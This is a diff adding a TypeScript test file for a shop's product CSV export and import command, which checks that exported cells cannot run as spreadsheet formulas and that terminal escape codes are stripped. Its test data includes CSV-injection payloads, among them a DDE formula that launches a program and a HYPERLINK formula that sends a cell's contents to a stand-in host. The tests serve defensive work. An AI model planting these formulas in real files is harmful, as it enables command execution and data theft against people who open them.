@@ -1,0 +1,141 @@
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { Writable } from 'node:stream'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { signUpAdmin } from '#test/admin.ts'
+import { openShop, SECRET, type Shop } from '#test/open-shop.ts'
+import { signUp } from '#test/shopper.ts'
+import { stock } from '#test/stock-room.ts'
+import { productsCommand } from './command.ts'
+import { importProducts } from './import-products.ts'
+
+let shop: Shop
+let folder: string
+
+beforeAll(async () => {
+  shop = await openShop()
+  folder = await mkdtemp(join(tmpdir(), 'farad-csv-'))
+  for (const name of hostile) await stock(shop.db, { name, description: `${name}\r\n"=1+1";'` })
+})
+afterAll(async () => {
+  await shop.close()
+  await rm(folder, { recursive: true })
+})
+
+/** Names that a spreadsheet would run, and such as are near to them or hard to put into a cell. */
+const hostile = [
+  '=HYPERLINK("http://example.com/?x="&A1,"10 kΩ")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-5 V regulator',
+  '@SUM(1)',
+  "'=1+1",
+  "''=1+1",
+  "'quoted'",
+  '＝1+1',
+  '5" LED strip; red, 12 V',
+  '"',
+  'with a \uFEFFmark',
+]
+
+/** Runs the command as on a terminal. */
+async function command(...words: string[]) {
+  const said = { out: '', err: '' }
+  const into = (where: keyof typeof said) =>
+    new Writable({
+      write(chunk, _encoding, done) {
+        said[where] += chunk
+        done()
+      },
+    })
+  const environment = { DATABASE_URL: shop.databaseUrl, STORE_SECRET: SECRET }
+  const { signal } = new AbortController()
+  const code = await productsCommand(words, {
+    ...{ environment, folder, signal, out: into('out'), err: into('err') },
+  })
+  return { code, ...said }
+}
+const download = (token?: string) =>
+  fetch(`${shop.url}/api/products.csv`, token ? { headers: { authorization: `Bearer ${token}` } } : {})
+
+describe('the file of an export', () => {
+  it('has no cell that a spreadsheet would run', async () => {
+    const { out } = await command('export')
+    expect(out).toMatch(/^\uFEFFname,description,img,price,minimumOrder,availableQuantity,family\r\n/)
+    expect(out.match(/(^|,)"[=+\-@\t\r＝]/gm)).toBeNull()
+    expect(out).toContain(`"'-5 V regulator"`)
+    expect(out).toContain(',0.25,10,1000,other\r\n')
+  })
+
+  it('is imported without a change, whatever the names are', async () => {
+    expect(await command('export', 'all.csv')).toMatchObject({ code: 0, out: '' })
+    const outcome = await importProducts(shop.db, { file: join(folder, 'all.csv'), apply: true })
+    expect(outcome).toMatchObject({ unchanged: hostile.length, changed: 0, added: 0, refused: 0 })
+  })
+
+  it('leaves out what is off sale', async () => {
+    const id = await stock(shop.db, { name: 'GONE' })
+    await shop.db.query('UPDATE products SET archived_at = now() WHERE id = $1', [id])
+    expect((await command('export')).out).not.toContain('GONE')
+  })
+})
+
+describe('the download', () => {
+  it('is the same file, for admins', async () => {
+    const admin = await signUpAdmin(shop)
+    const response = await download(admin.token)
+    expect(response.status).toBe(200)
+    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
+    expect(response.headers.get('content-disposition')).toContain('attachment')
+    expect(Buffer.from(await response.arrayBuffer()).toString()).toBe((await command('export')).out)
+  })
+
+  it('is for nobody else', async () => {
+    expect((await download()).status).toBe(401)
+    const buyer = await signUp(shop.url)
+    const refused = await download(buyer.token)
+    expect(refused.status).toBe(403)
+    expect(await refused.text()).not.toContain('regulator')
+  })
+})
+
+describe('the command', () => {
+  it('looks first, then imports', async () => {
+    await writeFile(join(folder, 'new.csv'), `${HEADER}\nNEW,x,/drawings/led-5mm-red.svg,1,1,1\n`)
+    const looked = await command('import', 'new.csv')
+    expect(looked.code).toBe(0)
+    expect(looked.out).toMatch(/New +1\n.*Changed +0\n/)
+    expect(looked.out).toContain('npm run products -- import new.csv --apply')
+    expect((await command('import', 'new.csv', '--apply')).out).toContain('Imported: 1 new, 0 changed.')
+    expect((await command('import', 'new.csv')).out).toContain('has all of this already')
+  })
+
+  it('says what is refused without what a terminal would obey, and ends with 1', async () => {
+    await writeFile(join(folder, 'bad.csv'), `${HEADER}\n\u001b[31mRED,x,/drawings/led-5mm-red.svg,1,1,1\n`)
+    const { code, out } = await command('import', 'bad.csv', '--apply')
+    expect(code).toBe(1)
+    expect(out).toMatch(/Refused +1\n/)
+    expect(out).toContain('2   [31mRED')
+    expect(out).not.toContain('\u001b')
+  })
+
+  it('ends with 1 when there is no such file, and with 2 when it is not understood', async () => {
+    expect(await command('import', 'nothing.csv')).toMatchObject({
+      code: 1,
+      err: expect.stringContaining('There is no file'),
+    })
+    for (const words of [[], ['remove'], ['import'], ['import', 'a', 'b'], ['export', '--apply'], ['--what']])
+      expect((await command(...words)).code, words.join(' ')).toBe(2)
+    expect(await command('--help')).toMatchObject({ code: 0, out: expect.stringContaining('--apply') })
+  })
+
+  it('leaves no half of a file', async () => {
+    await rm(join(folder, 'all.csv'), { force: true })
+    await command('export', 'all.csv')
+    expect(await readFile(join(folder, 'all.csv'), 'utf8')).toMatch(/\r\n$/)
+    expect((await command('export', 'no/such/folder.csv')).code).toBe(1)
+  })
+})
+
+const HEADER = 'name,description,img,price,minimumOrder,availableQuantity'
